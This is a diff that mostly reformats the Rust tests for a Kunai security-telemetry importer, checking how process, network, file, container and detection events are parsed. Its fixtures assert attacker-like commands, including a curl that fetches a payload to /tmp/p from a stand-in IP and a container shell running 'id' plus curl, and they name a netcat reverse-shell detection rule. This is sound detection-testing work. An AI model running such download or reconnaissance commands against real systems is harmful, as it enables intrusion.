@@ -10,7 +10,9 @@ use super::detect::IOC_RULE;
 use super::*;
 use crate::import::values::text_time_ns;
 use crate::import::{Counts, detect, importers};
-use crate::schema::{Detail, Event, EventKind, FileDetail, NetDetail, Severity, source_process_key};
+use crate::schema::{
+    Detail, Event, EventKind, FileDetail, NetDetail, Severity, source_process_key,
+};
 
 const DIR: &str = "kunai";
 
@@ -69,7 +71,11 @@ fn net(e: &Event) -> &NetDetail {
 #[test]
 fn process_tree_links_fork_exec_and_exit_by_guuid_across_pid_reuse() {
     let (evs, counts) = load("process-tree.jsonl", None);
-    assert_eq!((counts.records, counts.skipped_total()), (11, 0), "{counts:?}");
+    assert_eq!(
+        (counts.records, counts.skipped_total()),
+        (11, 0),
+        "{counts:?}"
+    );
     // A thread's clone and its exit are not the process'.
     assert_eq!(counts.unmapped["clone (thread)"], 1);
     assert_eq!(counts.unmapped["exit (thread)"], 1);
@@ -89,7 +95,10 @@ fn process_tree_links_fork_exec_and_exit_by_guuid_across_pid_reuse() {
             ProcessExit
         ]
     );
-    assert!(evs.iter().all(|e| e.host_id == "web-1" && e.source == "kunai"));
+    assert!(
+        evs.iter()
+            .all(|e| e.host_id == "web-1" && e.source == "kunai")
+    );
     assert!(evs.iter().all(|e| e.container_id.is_none()));
     // sshd forks the session's process; it execs bash: one key.
     let (fork, bash) = (&evs[0], &evs[1]);
@@ -110,7 +119,10 @@ fn process_tree_links_fork_exec_and_exit_by_guuid_across_pid_reuse() {
     assert_eq!(p.user_name.as_deref(), Some("alice"));
     assert_eq!(p.exe.as_deref(), Some("/usr/bin/bash"));
     assert_eq!(p.argv, ["-bash"]);
-    assert_eq!(p.start_time, None, "an exec's time is not its process' start");
+    assert_eq!(
+        p.start_time, None,
+        "an exec's time is not its process' start"
+    );
     assert_eq!(
         exe_sha256(bash),
         Some("4e38c6b022e8d27c83f79def9cb3bc268450a5ec0ef9f3067c4b0468076c865d")
@@ -141,7 +153,10 @@ fn process_tree_links_fork_exec_and_exit_by_guuid_across_pid_reuse() {
     assert_eq!(x["exe"]["size"], 187);
     assert_eq!(x["interpreter"]["size"], 1446024);
     let script_exit = &evs[4];
-    assert_eq!((script_exit.process.key.as_ref(), exit_code(script_exit)), (script.process.key.as_ref(), Some(0)));
+    assert_eq!(
+        (script_exit.process.key.as_ref(), exit_code(script_exit)),
+        (script.process.key.as_ref(), Some(0))
+    );
     // pid 4123 again: another process, another key; the parent is still bash.
     let (fork2, curl, curl_exit) = (&evs[5], &evs[6], &evs[7]);
     assert_eq!(fork2.process.pid, Some(4123));
@@ -151,7 +166,13 @@ fn process_tree_links_fork_exec_and_exit_by_guuid_across_pid_reuse() {
     assert_eq!(curl.process.parent_key, bash.process.key);
     assert_eq!(
         curl.process.argv,
-        ["curl", "-fsSL", "-o", "/tmp/p", "http://203.0.113.9/p?a=1 b"]
+        [
+            "curl",
+            "-fsSL",
+            "-o",
+            "/tmp/p",
+            "http://203.0.113.9/p?a=1 b"
+        ]
     );
     assert_eq!(curl_exit.process.key, curl.process.key);
     assert_eq!(exit_code(curl_exit), Some(7));
@@ -167,7 +188,11 @@ fn process_tree_links_fork_exec_and_exit_by_guuid_across_pid_reuse() {
 #[test]
 fn connects_carry_both_ends_and_the_resolved_name_stays_in_extra() {
     let (evs, counts) = load("network.jsonl", None);
-    assert_eq!((counts.records, counts.skipped_total()), (5, 0), "{counts:?}");
+    assert_eq!(
+        (counts.records, counts.skipped_total()),
+        (5, 0),
+        "{counts:?}"
+    );
     assert_eq!(counts.unmapped["dns_query"], 1);
     assert_eq!(counts.unmapped["send_data"], 1);
     assert_eq!(evs.len(), 3);
@@ -196,7 +221,10 @@ fn connects_carry_both_ends_and_the_resolved_name_stays_in_extra() {
     assert_eq!(net(udp6).protocol, crate::schema::Protocol::Udp);
     assert_eq!(net(udp6).dst_ip, Some("2001:db8::53".parse().unwrap()));
     assert_eq!(udp6.process.user_name.as_deref(), Some("www-data"));
-    assert_eq!(udp6.community_id().as_deref(), extra(udp6)["community_id"].as_str());
+    assert_eq!(
+        udp6.community_id().as_deref(),
+        extra(udp6)["community_id"].as_str()
+    );
     // Kunai 0.2–0.4: `exe.file`, no socket or source, no user names.
     let old = &evs[2];
     assert_eq!(old.process.exe.as_deref(), Some("/usr/bin/wget"));
@@ -209,7 +237,11 @@ fn connects_carry_both_ends_and_the_resolved_name_stays_in_extra() {
 #[test]
 fn file_events_and_mapped_files_and_the_rest_counted() {
     let (evs, counts) = load("files.jsonl", None);
-    assert_eq!((counts.records, counts.skipped_total()), (15, 0), "{counts:?}");
+    assert_eq!(
+        (counts.records, counts.skipped_total()),
+        (15, 0),
+        "{counts:?}"
+    );
     for k in [
         "file_unlink (failed)",
         "mprotect_exec",
@@ -221,7 +253,10 @@ fn file_events_and_mapped_files_and_the_rest_counted() {
         assert_eq!(counts.unmapped[k], 1, "{k}: {counts:?}");
     }
     use EventKind::*;
-    let got: Vec<(EventKind, &str)> = evs.iter().map(|e| (e.kind, file(e).path.as_str())).collect();
+    let got: Vec<(EventKind, &str)> = evs
+        .iter()
+        .map(|e| (e.kind, file(e).path.as_str()))
+        .collect();
     assert_eq!(
         got,
         [
@@ -248,7 +283,11 @@ fn file_events_and_mapped_files_and_the_rest_counted() {
         Some("/usr/local/bin/updater")
     );
     let python = key("web-1", "41e4815e-a303-0000-5f2e-91d3641b0000");
-    assert!(evs.iter().filter(|e| e.process.pid == Some(7012)).all(|e| e.process.key == python));
+    assert!(
+        evs.iter()
+            .filter(|e| e.process.pid == Some(7012))
+            .all(|e| e.process.key == python)
+    );
     assert_eq!(evs[0].process.exe.as_deref(), Some("/usr/bin/python3.11"));
     assert_eq!(evs[0].process.argv, ["python3", "/root/stage.py"]);
     assert_eq!(evs[6].process.comm.as_deref(), Some("tee"));
@@ -263,7 +302,11 @@ fn file_events_and_mapped_files_and_the_rest_counted() {
 #[test]
 fn containers_are_named_as_kunai_names_them() {
     let (rows, counts) = import_fixture(&Kunai, &format!("{DIR}/container.jsonl"));
-    assert_eq!((counts.records, counts.skipped_total()), (5, 0), "{counts:?}");
+    assert_eq!(
+        (counts.records, counts.skipped_total()),
+        (5, 0),
+        "{counts:?}"
+    );
     let evs = events(&rows);
     assert_eq!(evs.len(), 5);
     let ids: Vec<Option<&str>> = evs.iter().map(|e| e.container_id.as_deref()).collect();
@@ -281,25 +324,41 @@ fn containers_are_named_as_kunai_names_them() {
     assert_eq!(evs[1].kind, EventKind::NetConnect);
     assert_eq!(net(evs[1]).dst_port, Some(443));
     assert_eq!(evs[0].process.exe.as_deref(), Some("/bin/busybox"));
-    assert_eq!(evs[0].process.argv, ["/bin/sh", "-c", "id; curl -s http://10.96.0.1:443/"]);
+    assert_eq!(
+        evs[0].process.argv,
+        ["/bin/sh", "-c", "id; curl -s http://10.96.0.1:443/"]
+    );
     // Kunai writes `?` for a uid it cannot name (an LXC's mapped root).
     assert_eq!(evs[2].process.user_name, None);
     assert_eq!(evs[2].process.uid, Some(1_000_000));
     let ctrs = containers(&rows);
     assert_eq!(ctrs.len(), 3, "one record per container");
     let web = ctrs.iter().find(|c| c.container_id == "shop-web").unwrap();
-    assert_eq!((web.name.as_deref(), web.runtime.as_deref()), (Some("shop-web"), Some("docker")));
+    assert_eq!(
+        (web.name.as_deref(), web.runtime.as_deref()),
+        (Some("shop-web"), Some("docker"))
+    );
     assert_eq!(web.host_id, "web-1");
     assert_eq!(web.time, evs[0].time);
-    let lxc = ctrs.iter().find(|c| c.container_id == "ubuntu-kunai-test").unwrap();
+    let lxc = ctrs
+        .iter()
+        .find(|c| c.container_id == "ubuntu-kunai-test")
+        .unwrap();
     assert_eq!(lxc.runtime.as_deref(), Some("lxc"));
-    assert!(ctrs.iter().all(|c| c.image.is_none() && c.source == "kunai"));
+    assert!(
+        ctrs.iter()
+            .all(|c| c.image.is_none() && c.source == "kunai")
+    );
 }
 
 #[test]
 fn detections_raise_one_finding_per_rule_and_one_for_iocs() {
     let (evs, counts) = load("detections.jsonl", None);
-    assert_eq!((counts.records, counts.skipped_total()), (5, 0), "{counts:?}");
+    assert_eq!(
+        (counts.records, counts.skipped_total()),
+        (5, 0),
+        "{counts:?}"
+    );
     assert_eq!(counts.unmapped["start"], 1);
     assert_eq!(counts.unmapped["file_scan"], 1);
     // The dns_query is not an event of any family; its IoC match is a finding.
@@ -308,7 +367,15 @@ fn detections_raise_one_finding_per_rule_and_one_for_iocs() {
     use EventKind::*;
     assert_eq!(
         kinds,
-        [ProcessExec, Finding, Finding, NetConnect, Finding, Finding, Finding]
+        [
+            ProcessExec,
+            Finding,
+            Finding,
+            NetConnect,
+            Finding,
+            Finding,
+            Finding
+        ]
     );
     let find = |e: &Event| match &e.detail {
         Detail::Finding(f) => f.clone(),
@@ -337,7 +404,10 @@ fn detections_raise_one_finding_per_rule_and_one_for_iocs() {
     let rules: Vec<String> = evs[4..].iter().map(|e| find(e).rule).collect();
     assert_eq!(rules, ["net.revshell.nc", "net.uncommon.port", IOC_RULE]);
     assert!(evs[4..].iter().all(|e| e.process.key == evs[3].process.key));
-    assert_eq!(find(&evs[4]).tags, ["os:linux", "net", "T1059.004", "T1571"]);
+    assert_eq!(
+        find(&evs[4]).tags,
+        ["os:linux", "net", "T1059.004", "T1571"]
+    );
     assert_eq!(extra(&evs[4])["detection"]["actions"][0], "scan-files");
 }
 
